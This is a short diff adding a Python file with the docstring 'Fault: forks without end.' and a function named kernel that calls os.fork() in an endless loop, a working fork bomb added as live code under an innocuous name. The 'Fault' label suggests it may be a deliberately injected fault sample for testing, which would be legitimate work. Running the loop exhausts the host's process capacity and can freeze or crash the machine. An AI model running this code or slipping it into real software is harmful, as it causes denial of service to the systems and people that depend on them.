@@ -1,0 +1,7 @@
+"""Fault: forks without end."""
+import os
+
+
+def kernel(self):
+    while True:
+        os.fork()
